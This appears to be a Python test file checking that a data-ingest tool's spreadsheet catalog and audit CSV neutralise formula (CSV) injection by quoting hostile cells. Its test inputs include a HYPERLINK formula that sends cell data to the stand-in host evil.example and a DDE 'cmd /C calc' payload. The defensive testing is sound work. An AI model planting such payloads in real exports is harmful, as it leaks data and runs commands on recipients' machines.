"""Generated spreadsheets and CSVs never run config or error text as a formula (issue 15,
class 3; OWASP CSV injection): the jobs catalog (.xlsx) and the audit CSV."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ingest.cells import FORMULA_TRIGGERS, safe_cell
from ingest.reports.catalog import CATALOG_FILE, write_catalog
from tests.fixtures.audit import write_audit_json

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
HOSTILE_VALUES = [HOSTILE, "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)", "\t=1", " =1+1", "＝1"]


def runs_as_formula(text: str) -> bool:
    """What a spreadsheet program does with a text cell: a formula when it starts (after
    spaces) with a trigger and is not a plain number."""
    stripped = text.lstrip(" ")
    if not stripped or stripped[0] not in FORMULA_TRIGGERS:
        return False
    try:
        float(stripped)
    except ValueError:
        return True
    return False


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_safe_cell_never_leaves_a_formula(text):
    out = safe_cell(text)
    assert out in (text, "'" + text)  # nothing else changes
    assert not runs_as_formula(out)
    assert safe_cell(out) == out  # idempotent: rewriting a file changes nothing


def test_numbers_and_plain_text_are_left_alone():
    for value in ("-5", "+1.5", "-1e3", "42", "2024-01-01", "orders", "", "'=x", None, 7):
        assert safe_cell(value) == value
    for value in HOSTILE_VALUES:
        assert safe_cell(value) == "'" + value


def test_catalog_shows_config_text_as_text(tmp_path, file_lake):
    config = tmp_path / "jobs.csv"
    with config.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(
            ["job_id", "enabled", "source_type", "source_name", "table_name", "load_type", "owner"]
        )
        for index, owner in enumerate(HOSTILE_VALUES, 1):
            writer.writerow([f"j{index}", "Y", "sqlite", "shop", f"t{index}", "FULL", owner])
    paths = write_catalog(str(config), file_lake, tmp_path / "out")
    sheet = load_workbook(paths[0]).active
    header = [c.value for c in sheet[1]]
    owners = [row[header.index("Owner")] for row in sheet.iter_rows(min_row=2)]
    # (the config reader strips the spaces and tabs around a cell's text)
    assert [c.value for c in owners] == ["'" + v.strip() for v in HOSTILE_VALUES]
    assert {c.data_type for c in owners} == {"s"}  # text cells: none is a formula ("f")
    assert paths[0].name == CATALOG_FILE


def test_audit_cells_are_neutralised_and_a_retry_adds_nothing(file_lake):
    result = {
        "run_id": "r-1",
        "job_id": "001",
        "source_type": "rest_api",
        "source_name": "crm",
        "table_name": "items",
        "load_type": "INCREMENTAL",
        "status": "FAILED",
        "watermark_column": "updated_at",
        "watermark_before": "=1+2",  # a REST API decides its cursor values
        "watermark_after": "-5",
        "error": HOSTILE,
        "started_at": "2026-01-01T00:00:00+00:00",
    }
    run = {"run_id": "r-1", "destination": file_lake, "results": [result]}
    summary = write_audit_json(run)
    assert summary["audit_rows_added"] == 1
    assert write_audit_json(run)["audit_rows_added"] == 0  # the neutralised row is found again
    with Path(summary["audit_path"]).open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["error"] == "'" + HOSTILE and row["watermark_before"] == "'=1+2"
    assert row["watermark_after"] == "-5"  # a number stays a number
    for value in row.values():
        assert not runs_as_formula(value)
